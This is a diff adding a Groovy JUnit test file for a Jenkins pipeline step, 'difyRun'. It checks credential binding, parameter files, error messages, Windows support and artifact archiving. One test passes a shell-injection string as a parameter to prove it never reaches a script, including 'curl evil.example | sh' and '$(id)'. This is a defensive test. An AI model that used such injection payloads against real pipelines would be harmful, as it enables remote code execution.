@@ -1,0 +1,217 @@
+import static harness.PipelineHarness.*
+import static org.junit.Assert.*
+
+import groovy.json.JsonSlurper
+import harness.PipelineError
+import harness.PipelineHarness
+import harness.Vars
+import org.junit.Before
+import org.junit.Test
+
+class DifyRunTest {
+    PipelineHarness h
+
+    @Before
+    void setUp() {
+        h = Vars.harness()
+    }
+
+    private PipelineError expectError(Closure c) {
+        try {
+            c.call()
+        } catch (PipelineError e) {
+            return e
+        }
+        fail('expected error() to be called')
+        return null
+    }
+
+    @Test
+    void bindsExactlyTheCredentialsThatContextListsForTheStepAndEnvironment() {
+        h.contextFor = { String step, String envName ->
+            assertEquals('deploy', step)
+            assertEquals('production', envName)
+            defaultContext(step, envName)
+        }
+        h.call('difyRun', 'deploy', [env: 'production'])
+        List bindings = h.named('withCredentials')[0].args[0]
+        assertEquals([
+            [$symbol: 'usernamePassword', credentialsId: 'dify-production', usernameVariable: 'DIFY_EMAIL', passwordVariable: 'DIFY_PASSWORD'],
+            [$symbol: 'string', credentialsId: 'openai', variable: 'OPENAI_KEY'],
+            [$symbol: 'file', credentialsId: 'ca-bundle', variable: 'DIFY_CA_FILE'],
+        ], bindings)
+        Map deploy = h.commands()[0]
+        assertEquals('deploy', deploy.command)
+        assertEquals(secretOf('dify-production', 'DIFY_PASSWORD'), deploy.env.DIFY_PASSWORD)
+        assertEquals(secretOf('openai', 'OPENAI_KEY'), deploy.env.OPENAI_KEY)
+        assertTrue('context itself runs without credentials', h.runs[0].env.keySet().every { it.startsWith('DIFY_CI_') })
+    }
+
+    @Test
+    void aStepWithoutCredentialsBindsNothing() {
+        h.call('difyRun', 'validate', [:])
+        assertEquals([[]], h.named('withCredentials')*.args*.getAt(0))
+        assertEquals('validate', h.runs[0].params.step)
+    }
+
+    @Test
+    void everyScriptIsAConstantAndNoSecretOrUserValueReachesOne() {
+        String hostile = 'bot"; curl evil.example | sh; echo $(id) `id` %PATH% \'x'
+        h.call('difyRun', 'deploy', [env: 'production', app: hostile, approvedBy: 'mallory$(id)'])
+        h.unix = false
+        h.call('difyRun', 'smoke', [env: 'production', filter: hostile])
+        List<Map> shells = h.calls.findAll { it.name in ['sh', 'bat'] }
+        assertEquals('node check, then context + command twice', 5, shells.size())
+        for (Map c : shells) {
+            Map m = c.args[0]
+            assertTrue("not a constant script: ${m.script}", m.script in CONSTANT_SCRIPTS)
+            assertEquals(true, m.returnStatus)
+            String label = m.label.toString()
+            for (String secret : ['DIFY_PASSWORD', 'OPENAI_KEY'].collect { v -> h.runs[1].env[v] }) {
+                assertFalse(label.contains(secret))
+            }
+            assertFalse(label.contains(hostile))
+        }
+        assertEquals(hostile, h.commands()[0].params.app)
+        assertEquals(hostile, h.commands()[1].params.filter)
+    }
+
+    @Test
+    void parametersTravelInAJsonFileNamedByAnEnvironmentVariable() {
+        Map params = [env: 'staging', app: 'support-bot', allowVersionUpgrade: true, tenants: ['a', 'b'], approvedBy: 'alice']
+        h.call('difyRun', 'deploy', params)
+        Map run = h.commands()[0]
+        assertEquals(params, run.params)
+        assertTrue(run.env.DIFY_CI_PARAMS_FILE.startsWith('/ws@tmp/dify-ci/params-'))
+        assertEquals('deploy', run.env.DIFY_CI_COMMAND)
+        assertEquals('.dify-ci/results/deploy-staging.json', run.env.DIFY_CI_RESULT_FILE)
+        assertFalse('no parameter value in any environment variable', run.env.values().any { it.contains('support-bot') || it.contains('alice') })
+        Map ctxRun = h.runs[0]
+        assertEquals([step: 'deploy', env: 'staging', config: null], ctxRun.params)
+        assertNotEquals(ctxRun.env.DIFY_CI_PARAMS_FILE, run.env.DIFY_CI_PARAMS_FILE)
+    }
+
+    @Test
+    void theRunnersOwnMessageAndCategorySurfaceInError() {
+        h.runner = { Map run -> [exitCode: 2, result: failResult(run.command, "dify-ci.yml:12:5: unknown key 'aprroval' at environments.production", 'config', 2)] }
+        PipelineError e = expectError { h.call('difyRun', 'deploy', [env: 'production']) }
+        assertEquals("dify-ci deploy: dify-ci.yml:12:5: unknown key 'aprroval' at environments.production [config]", e.message)
+    }
+
+    @Test
+    void aFailureWithoutErrorObjectReportsTheSummary() {
+        h.runner = { Map run -> [exitCode: 1, result: okResult(run.command, [status: 'failed', summary: '2 of 9 cases failed'])] }
+        PipelineError e = expectError { h.call('difyRun', 'smoke', [env: 'staging']) }
+        assertEquals('dify-ci smoke: 2 of 9 cases failed [operation]', e.message)
+    }
+
+    @Test
+    void aRunnerThatWritesNoResultIsAFailureNotAStaleSuccess() {
+        h.files['/ws/.dify-ci/results/deploy-staging.json'] = groovy.json.JsonOutput.toJson(okResult('deploy'))
+        h.runner = { Map run -> [exitCode: 137, result: null] }
+        PipelineError e = expectError { h.call('difyRun', 'deploy', [env: 'staging']) }
+        assertEquals('dify-ci deploy: the runner exited with 137 and wrote no result file (see the log above)', e.message)
+    }
+
+    @Test
+    void authFailuresKeepTheirCategory() {
+        h.runner = { Map run -> [exitCode: 4, result: failResult(run.command, 'Dify refused the login for ci@example.com (401)', 'auth', 4)] }
+        PipelineError e = expectError { h.call('difyRun', 'status', [env: 'staging']) }
+        assertTrue(e.message.endsWith('[auth]'))
+    }
+
+    @Test
+    void okExitCodesAndPropagateFalseHandBackTheResult() {
+        h.runner = { Map run -> [exitCode: 3, result: okResult(run.command, [status: 'changes', data: [changes: 2]])] }
+        Map r = h.call('difyRun', 'plan', [env: 'staging'], [okExitCodes: [0, 3]])
+        assertEquals(3, r.exitCode)
+        assertEquals([changes: 2], r.data)
+        h.runner = { Map run -> [exitCode: 1, result: okResult(run.command, [status: 'failed'])] }
+        Map failed = h.call('difyRun', 'smoke', [env: 'staging'], [propagate: false])
+        assertEquals(1, failed.exitCode)
+        assertEquals([], h.named('error'))
+    }
+
+    @Test
+    void windowsAgentsUseBatWithTheSameContract() {
+        h.unix = false
+        h.workspace = 'C:\\ws'
+        h.call('difyRun', 'backup', [env: 'production', all: true])
+        assertEquals([], h.named('sh'))
+        List scripts = h.named('bat').collect { it.args[0].script }
+        assertEquals(['@' + NODE_CHECK, WIN_RUN, WIN_RUN], scripts)
+        assertEquals([env: 'production', all: true], h.commands()[0].params)
+        assertEquals('bat', h.commands()[0].shell)
+    }
+
+    @Test
+    void theRunnerIsWrittenOncePerWorkspaceUnderTheTempDirWithItsDigestInTheName() {
+        h.call('difyRun', 'validate', [:])
+        h.call('difyRun', 'status', [env: 'staging'])
+        List runnerWrites = h.named('writeFile').findAll { it.args[0].text == RUNNER_TEXT }
+        assertEquals(1, runnerWrites.size())
+        String path = runnerWrites[0].args[0].file
+        assertTrue(path, path ==~ /\/ws@tmp\/dify-ci\/runner-\d+-[0-9a-f]+\.cjs/)
+        assertEquals(1, h.calls.count { it.name == 'sh' && it.args[0].script == NODE_CHECK })
+        assertTrue(h.runs.every { it.runner == path })
+        h.workspace = '/other-ws'
+        h.call('difyRun', 'validate', [:])
+        assertEquals('a new workspace gets its own copy', 2, h.named('writeFile').count { it.args[0].text == RUNNER_TEXT })
+    }
+
+    @Test
+    void anOldNodeFailsClearlyBeforeAnythingRuns() {
+        h.nodeCheckStatus = 3
+        PipelineError e = expectError { h.call('difyRun', 'validate', [:]) }
+        assertTrue(e.message, e.message.startsWith('dify-ci needs Node.js >= 20 on the agent'))
+        assertEquals([], h.runs)
+        assertFalse(h.files.keySet().any { it.contains('runner-') })
+    }
+
+    @Test
+    void artifactsListedInTheResultAreArchivedRelativeToTheWorkspace() {
+        h.runner = { Map run ->
+            [exitCode: 0, result: okResult(run.command, [artifacts: [
+                [path: '.dify-ci/reports/smoke-staging.xml', kind: 'junit'],
+                [path: './.dify-ci/reports/smoke.html', kind: 'html'],
+                [path: '.dify-ci\\reports\\win.md', kind: 'markdown'],
+                [path: '/tmp/outside.json', kind: 'json'],
+                [path: '../escape.json', kind: 'json'],
+            ]])]
+        }
+        h.call('difyRun', 'smoke', [env: 'staging'])
+        assertEquals([[artifacts: '.dify-ci/reports/smoke-staging.xml,.dify-ci/reports/smoke.html,.dify-ci/reports/win.md', allowEmptyArchive: true]],
+            h.named('archiveArtifacts')*.args*.getAt(0))
+    }
+
+    @Test
+    void nothingIsArchivedWhenTheResultListsNoArtifacts() {
+        h.call('difyRun', 'status', [env: 'staging'])
+        assertEquals([], h.named('archiveArtifacts'))
+    }
+
+    @Test
+    void aContextFailureStopsBeforeAnyCredentialIsBound() {
+        h.contextRunner = { Map run -> [exitCode: 2, result: failResult('context', "dify-ci.yml:3:1: unknown environment 'prod'", 'config', 2)] }
+        PipelineError e = expectError { h.call('difyRun', 'deploy', [env: 'prod']) }
+        assertEquals("dify-ci context: dify-ci.yml:3:1: unknown environment 'prod' [config]", e.message)
+        assertEquals([], h.named('withCredentials'))
+        assertEquals([], h.commands())
+    }
+
+    @Test
+    void resultFilesAreNamedPerCommandEnvironmentAndShard() {
+        h.call('difyRun', 'deploy', [env: 'production', shard: '2/4'])
+        assertEquals('.dify-ci/results/deploy-production-2_4.json', h.commands()[0].env.DIFY_CI_RESULT_FILE)
+        assertEquals([command: 'deploy', status: 'success'], new JsonSlurper().parseText(h.files['/ws/.dify-ci/results/deploy-production-2_4.json']).subMap(['command', 'status']))
+    }
+
+    @Test
+    void callIdsAreUniqueWithinABuild() {
+        h.call('difyRun', 'status', [env: 'staging'])
+        h.call('difyRun', 'status', [env: 'staging'])
+        List files = h.runs.collect { it.env.DIFY_CI_PARAMS_FILE }
+        assertEquals(files.unique(false), files)
+        assertTrue(files[0].contains('params-7-'))
+    }
+}
